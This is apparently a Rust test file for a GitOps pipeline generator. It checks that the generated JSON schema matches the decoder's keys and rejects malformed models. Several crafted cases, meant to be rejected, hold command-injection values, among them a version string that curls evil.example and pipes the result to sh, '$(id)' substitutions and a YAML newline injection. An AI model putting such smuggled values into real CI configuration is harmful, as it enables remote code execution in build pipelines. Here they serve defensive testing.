//! The shipped schema is the one generated from the draft types; it agrees with the decoder on
//! keys, and it accepts and rejects models as the hand-written schema before it did.

use schemars::generate::SchemaSettings;
use serde_json::{Value, json};

use super::MODEL_SCHEMA;
use crate::model::decode::*;
use crate::model::draft::ModelDraft;

/// The schema as `schemars` generates it from [`ModelDraft`], as shipped (pretty, one newline).
fn generated() -> Result<String, serde_json::Error> {
    let schema = SchemaSettings::draft2020_12()
        .into_generator()
        .into_root_schema_for::<ModelDraft>();
    Ok(serde_json::to_string_pretty(&schema)? + "\n")
}

#[test]
fn the_shipped_schema_is_generated_from_the_draft() -> Result<(), Box<dyn std::error::Error>> {
    let generated = generated()?;
    if std::env::var_os("GITOPS_GEN_WRITE_SCHEMA").is_some() {
        let path =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("schema/gitops-gen.schema.json");
        std::fs::write(path, &generated)?;
        return Ok(());
    }
    assert!(
        generated == MODEL_SCHEMA,
        "schema/gitops-gen.schema.json is not what the draft types generate; rerun this test \
         with GITOPS_GEN_WRITE_SCHEMA=1 and review the diff"
    );
    Ok(())
}

/// The property names of the object schema reached from the root through `path`: a property
/// name steps into that property, `[]` into a list's items; `$ref`s are followed on the way.
fn keys(schema: &Value, path: &[&str]) -> Vec<String> {
    fn resolve<'s>(schema: &'s Value, mut node: &'s Value) -> &'s Value {
        while let Some(target) = node.get("$ref").and_then(Value::as_str) {
            node = schema
                .pointer(target.trim_start_matches('#'))
                .unwrap_or(&Value::Null);
        }
        node
    }
    let mut node = resolve(schema, schema);
    for step in path {
        node = resolve(
            schema,
            match *step {
                "[]" => &node["items"],
                name => &node["properties"][name],
            },
        );
    }
    let mut keys: Vec<String> = node
        .get("properties")
        .and_then(Value::as_object)
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    keys.sort();
    keys
}

fn sorted(list: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = list.iter().map(|s| (*s).to_owned()).collect();
    v.sort();
    v
}

/// The decoder and the schema must accept exactly the same keys, or editors lie to users.
#[test]
fn schema_and_decoder_agree_on_keys() -> Result<(), serde_json::Error> {
    let schema: Value = serde_json::from_str(MODEL_SCHEMA)?;
    assert_eq!(keys(&schema, &[]), sorted(TOP_KEYS));
    assert_eq!(keys(&schema, &["gitops"]), sorted(GITOPS_KEYS));
    assert_eq!(keys(&schema, &["tool"]), sorted(TOOL_KEYS));
    for (path, expected) in [
        (&["tool", "binary"][..], TOOL_BINARY_KEYS),
        (&["gitops", "sync"][..], GITOPS_SYNC_KEYS),
        (&["notifications"][..], NOTIFICATIONS_KEYS),
        (&["notifications", "commit_status"][..], COMMIT_STATUS_KEYS),
        (&["notifications", "chat"][..], CHAT_KEYS),
        (&["policy"][..], POLICY_KEYS),
        (&["apps", "[]", "test_setup", "[]"][..], SETUP_STEP_KEYS),
        (&["apps", "[]", "test_services", "[]"][..], SERVICE_KEYS),
    ] {
        assert_eq!(keys(&schema, path), sorted(expected), "{path:?}");
    }
    assert_eq!(keys(&schema, &["gitlab"]), sorted(GITLAB_KEYS));
    assert_eq!(keys(&schema, &["environments", "[]"]), sorted(ENV_KEYS));
    assert_eq!(keys(&schema, &["apps", "[]"]), sorted(APP_KEYS));
    let deploy: Vec<&str> = DEPLOY_KEYS
        .iter()
        .chain(DEPLOY_MODIFIERS)
        .copied()
        .collect();
    assert_eq!(keys(&schema, &["apps", "[]", "deploy"]), sorted(&deploy));
    Ok(())
}

/// Validates `instance` against the shipped schema.
fn accepts(instance: &Value) -> bool {
    let validate = || -> Result<bool, Box<dyn std::error::Error>> {
        let mut compiler = boon::Compiler::new();
        compiler.add_resource(
            "gitops-gen.schema.json",
            serde_json::from_str(MODEL_SCHEMA)?,
        )?;
        let mut schemas = boon::Schemas::new();
        let index = compiler.compile("gitops-gen.schema.json", &mut schemas)?;
        Ok(schemas.validate(instance, index).is_ok())
    };
    validate().unwrap_or_else(|e| panic!("the schema does not compile: {e}"))
}

fn fixture(path: &str) -> Value {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(path);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    serde_norway::from_str(&text).unwrap_or_else(|e| panic!("{path:?}: {e}"))
}

/// Every example model validates; of the invalid ones, the schema catches what it can express
/// (the rest, such as duplicates and overlapping patterns, only gitops-gen itself checks).
#[test]
fn fixture_models() {
    for model in [
        "both-ci",
        "four-envs",
        "gitlab-dind",
        "separate-config-repo",
        "two-apps",
    ] {
        assert!(
            accepts(&fixture(&format!("models/{model}.yaml"))),
            "{model}"
        );
    }
    for (model, valid) in [
        ("branch-claimed-twice", true),
        ("duplicate-app", true),
        ("duplicate-environment", true),
        ("malformed-glob", true),
        ("empty-environments", false),
        ("name-not-dns-label", false),
        ("unknown-env-key", false),
        ("unknown-top-level-key", false),
        ("wrong-type", false),
        ("wrong-version", false),
        ("registry-newline", false),
        ("image-not-a-reference", false),
        ("tool-version-injection", false),
        ("tool-git-not-plain-https", false),
        ("expression-in-values", false),
        ("test-command-lines", true),
        ("gitops-path-in-git", true),
        ("deploy-into-ci-folders", true),
        ("two-outputs-one-path", true),
    ] {
        let verdict = accepts(&fixture(&format!("bad-models/{model}.yaml")));
        assert_eq!(verdict, valid, "{model}");
    }
}

/// `base` with the value at `pointer` replaced (or added), or removed when `value` is `None`.
fn with(pointer: &str, value: Option<Value>) -> Value {
    let mut model = json!({
        "version": 1,
        "project": "shop",
        "environments": [{"name": "production", "branches": ["main"]}],
        "apps": [{"name": "web"}]
    });
    let (parent, key) = pointer.rsplit_once('/').unwrap_or(("", pointer));
    let slot = model.pointer_mut(parent);
    match (slot, value) {
        (Some(Value::Object(map)), Some(value)) => {
            map.insert(key.to_owned(), value);
        }
        (Some(Value::Object(map)), None) => {
            map.remove(key);
        }
        (Some(Value::Array(items)), Some(value)) => {
            let i: usize = key.parse().unwrap_or(0);
            items[i] = value;
        }
        _ => panic!("no parent for {pointer}"),
    }
    model
}

/// Keys, values and shapes one at a time, each with the verdict of the hand-written schema this
/// one replaced.
#[test]
fn crafted_models() {
    let hex = "0123456789abcdef0123456789abcdef01234567";
    let cases: Vec<(&str, Option<Value>, bool)> = vec![
        ("/ci", Some(json!("github")), true),
        ("/ci", Some(json!("both")), true),
        ("/ci", Some(json!("jenkins")), false),
        ("/ci", Some(Value::Null), false),
        ("/operator", Some(json!("flux")), true),
        ("/operator", Some(json!("argocd")), false),
        ("/operator", Some(json!("fleet")), false),
        ("/registry", Some(json!("ghcr.io/acme")), true),
        ("/registry", Some(json!("localhost:5000/acme")), true),
        ("/registry", Some(json!("acme/web")), false),
        ("/registry", Some(json!("ghcr.io/Acme")), false),
        ("/registry", Some(json!("ghcr.io")), true),
        (
            "/registry",
            Some(json!("x.io\n  run: sh\n- name: y/acme")),
            false,
        ),
        ("/registry", Some(json!("$(id).io/acme")), false),
        ("/registry", Some(Value::Null), false),
        ("/version", Some(json!(2)), false),
        ("/version", Some(json!("1")), false),
        ("/version", None, false),
        ("/project", Some(json!("Shop")), false),
        ("/project", Some(json!("-shop")), false),
        ("/project", None, false),
        ("/extra", Some(json!(1)), false),
        (
            "/gitops",
            Some(json!({"repository": "this", "branch": "main", "path": "deploy"})),
            true,
        ),
        (
            "/gitops",
            Some(json!({"repository": "https://example.com/c.git"})),
            true,
        ),
        (
            "/gitops",
            Some(json!({"repository": "git@example.com:c.git"})),
            true,
        ),
        ("/gitops", Some(json!({"repository": "c.git"})), false),
        ("/gitops", Some(json!({"branch": "feature/*"})), false),
        ("/gitops", Some(json!({"branch": ""})), false),
        ("/gitops", Some(json!({"brnch": "main"})), false),
        ("/gitops", Some(json!({})), true),
        ("/gitops", Some(Value::Null), false),
        ("/tool", Some(json!({"version": "1.2.3"})), true),
        ("/tool", Some(json!({"version": "1.2.3-rc.1"})), true),
        ("/tool", Some(json!({"version": "1.2"})), false),
        (
            "/tool",
            Some(json!({"version": "1.2.3", "install": "binary", "binary": {
                "action": "0123456789abcdef0123456789abcdef01234567",
                "image": format!("sha256:{}", "ab".repeat(32))}})),
            true,
        ),
        (
            "/tool",
            Some(json!({"version": "1.2.3", "binary": {
                "action": "0123456789abcdef0123456789abcdef01234567", "image": "latest"}})),
            false,
        ),
        (
            "/tool",
            Some(json!({"version": "1.2.3", "install": "wheel"})),
            false,
        ),
        ("/tool", Some(json!({"version": "1.2.3+build.01"})), true),
        ("/tool", Some(json!({"version": "01.2.3"})), false),
        ("/tool", Some(json!({"version": "1.2.3-01"})), false),
        (
            "/tool",
            Some(json!({"version": "0.1.0-x;curl${IFS}evil.example|sh;"})),
            false,
        ),
        (
            "/tool",
            Some(json!({"git": "https://example.com/g.git;$(id)", "rev": hex})),
            false,
        ),
        (
            "/tool",
            Some(json!({"git": "https://u:p@example.com/g.git", "rev": hex})),
            false,
        ),
        (
            "/tool",
            Some(json!({"git": "https://example.com/g.git", "rev": hex})),
            true,
        ),
        (
            "/tool",
            Some(json!({"git": "https://example.com/g.git"})),
            false,
        ),
        ("/tool", Some(json!({"rev": hex})), false),
        (
            "/tool",
            Some(json!({"git": "http://example.com/g.git", "rev": hex})),
            false,
        ),
        (
            "/tool",
            Some(json!({"git": "https://example.com/g.git", "rev": "main"})),
            false,
        ),
        (
            "/gitlab",
            Some(json!({"builder": "docker-in-docker"})),
            true,
        ),
        ("/gitlab", Some(json!({"builder": "kaniko"})), false),
        ("/environments", Some(json!([])), false),
        ("/environments", Some(json!({"name": "production"})), false),
        ("/environments", None, false),
        ("/environments/0", Some(json!({"name": "production"})), true),
        (
            "/environments/0",
            Some(json!({"branches": ["main"]})),
            false,
        ),
        ("/environments/0/branches", Some(Value::Null), true),
        ("/environments/0/branches", Some(json!("main")), true),
        ("/environments/0/branches", Some(json!("")), false),
        ("/environments/0/branches", Some(json!([""])), false),
        ("/environments/0/branches", Some(json!([1])), false),
        ("/environments/0/tags", Some(json!(["v*"])), true),
        (
            "/environments/0/promotion",
            Some(json!("pull-request")),
            true,
        ),
        ("/environments/0/promotion", Some(json!("manual")), true),
        ("/environments/0/promotion", Some(json!("auto")), false),
        ("/environments/0/cluster", Some(json!("eu-1")), true),
        ("/environments/0/cluster", Some(json!("EU")), false),
        (
            "/environments/0/namespace",
            Some(json!("a".repeat(64))),
            false,
        ),
        (
            "/environments/0/namespace",
            Some(json!("a".repeat(63))),
            true,
        ),
        ("/environments/0/preview", Some(json!(true)), true),
        ("/environments/0/preview", Some(json!("yes")), false),
        ("/environments/0/brnches", Some(json!(["main"])), false),
        ("/apps", Some(json!([])), false),
        ("/apps", None, false),
        ("/apps/0/image", Some(json!("ghcr.io/acme/web")), true),
        ("/apps/0/image", Some(json!("ghcr.io/acme/web:1.0")), false),
        ("/apps/0/image", Some(json!("ghcr.io/acme/-web")), false),
        ("/apps/0/image", Some(json!("ghcr.io")), false),
        ("/apps/0/test_image", Some(json!("node:22")), true),
        ("/apps/0/test_image", Some(json!("ubuntu:24.04; id")), false),
        ("/apps/0/test_image", Some(json!("$CI_JOB_TOKEN")), false),
        ("/apps/0/context", Some(json!("web")), true),
        ("/apps/0/dockerfile", Some(json!("web/Dockerfile")), true),
        ("/apps/0/test", Some(json!("make test")), true),
        ("/apps/0/test", Some(Value::Null), false),
        (
            "/apps/0/test_image",
            Some(json!("docker.io/library/node:22")),
            true,
        ),
        ("/apps/0/port", Some(json!(1)), true),
        ("/apps/0/port", Some(json!(65535)), true),
        ("/apps/0/port", Some(json!(0)), false),
        ("/apps/0/port", Some(json!(65536)), false),
        ("/apps/0/port", Some(json!("80")), false),
        (
            "/apps/0/deploy",
            Some(json!({"kustomize": "apps/web"})),
            true,
        ),
        ("/apps/0/deploy", Some(json!({"helm": "charts/web"})), true),
        ("/apps/0/deploy", Some(json!({})), false),
        (
            "/apps/0/deploy",
            Some(json!({"kustomize": "a", "helm": "b"})),
            false,
        ),
        ("/apps/0/deploy", Some(json!({"kustomise": "a"})), false),
        ("/apps/0/name", None, false),
    ];
    for (pointer, value, valid) in cases {
        let model = with(pointer, value.clone());
        assert_eq!(accepts(&model), valid, "{pointer} = {value:?}");
    }
}
